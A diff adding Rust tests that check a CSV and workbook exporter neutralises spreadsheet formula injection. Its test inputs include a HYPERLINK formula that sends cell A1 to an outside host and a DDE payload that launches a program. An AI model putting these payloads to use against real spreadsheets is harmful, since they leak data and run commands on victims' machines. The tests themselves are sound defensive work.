@@ -126,3 +126,67 @@ fn names_of_columns_have_nothing_to_escape() {
     }
     assert!(count > 100, "{count}");
 }
+
+const FORMULAS: [&str; 5] = [
+    "=HYPERLINK(\"https://a.example/?\"&A1,\"buka\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1;2)",
+    "\t=1+1",
+];
+
+fn rows_of_formulas<'r>() -> impl Iterator<Item = Row<'r>> {
+    let empty = vec![Cell::Missing; table(TableName::Opds).columns.len()];
+    FORMULAS.iter().map(move |formula| {
+        let mut row: Row<'_> = empty.clone();
+        row[0] = Cell::Text((*formula).into());
+        row[1] = Cell::Number("-2.5".parse().unwrap());
+        row
+    })
+}
+
+#[test]
+fn a_spreadsheet_computes_no_text_of_a_csv_file_and_keeps_negative_numbers() {
+    let mut bytes = Vec::new();
+    csv(table(TableName::Opds), rows_of_formulas(), &mut bytes).unwrap();
+    let mut reader = ::csv::Reader::from_reader(&bytes[..]);
+    let cells: Vec<_> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(cells.len(), FORMULAS.len());
+    for (cells, formula) in cells.iter().zip(FORMULAS) {
+        assert!(cells[0].starts_with('\''), "{formula}: {}", &cells[0]);
+        assert_eq!(cells[0].replace('\'', ""), formula.replace('\'', ""));
+        assert_eq!(&cells[1], "-2.5");
+    }
+}
+
+#[test]
+fn a_workbook_has_texts_and_no_formulas() {
+    let words = crate::view::AboutWorkbook {
+        title: FORMULAS[0].into(),
+        facts: vec![(FORMULAS[1].into(), FORMULAS[2].into())],
+        sheets: ["Keterangan".into(), "Kolom".into()],
+        headings: [0, 1, 2].map(|at: usize| FORMULAS[at].into()),
+        as_of: "2026-08-01".parse().unwrap(),
+    };
+    let source = Source {
+        table: table(TableName::Opds),
+        rows: Box::new(|| Box::new(rows_of_formulas())),
+    };
+    let mut bytes = Vec::new();
+    workbook(&words, &[source], &mut bytes).unwrap();
+    let mut archive = zip::ZipArchive::new(io::Cursor::new(bytes)).unwrap();
+    let mut texts = 0;
+    for at in 0..archive.len() {
+        let mut file = archive.by_index(at).unwrap();
+        let name = file.name().unwrap().into_owned();
+        let mut xml = String::new();
+        io::Read::read_to_string(&mut file, &mut xml).unwrap();
+        assert!(!name.contains("externalLink"), "{name}");
+        assert!(
+            !xml.contains("<f>") && !xml.contains("<f "),
+            "{name} has a formula"
+        );
+        texts += xml.matches("HYPERLINK").count();
+    }
+    assert_eq!(texts, 4, "title, that of the document, heading and cell");
+}
